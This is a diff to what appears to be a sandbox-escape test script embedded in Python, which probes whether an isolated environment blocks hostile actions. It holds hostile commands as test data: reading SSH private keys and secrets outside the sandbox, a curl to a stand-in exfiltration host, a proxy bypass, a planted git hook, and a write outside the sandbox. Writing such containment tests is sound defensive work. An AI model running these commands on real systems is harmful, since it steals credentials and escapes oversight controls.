@@ -34,7 +34,8 @@ echo "--- ps"; ps -ef 2>/dev/null | head -20
 echo "--- ssh"; cat ~/.ssh/id_rsa {home}/.ssh/id_rsa 2>&1
 echo "--- outside"; cat {outside}/secret.txt 2>&1
 echo "--- proxy"; curl -sS -m 5 https://exfil.example/steal 2>&1
-echo "--- direct"; curl -sS -m 5 --noproxy '*' http://127.0.0.1:{port}/v1/messages -d '{{}}' 2>&1 || echo "direct failed"
+echo "--- direct"; curl -sS -m 5 --noproxy '*' http://127.0.0.1:{port}/v1/messages -d '{{}}' 2>&1 \
+  || echo "direct failed"
 echo "--- hook"; echo 'touch {marks}/hooked' > .git/hooks/post-checkout 2>&1 || echo "hook refused"
 echo "--- write outside"; echo pwned > {outside}/pwned.txt 2>&1 || echo "write refused"
 """
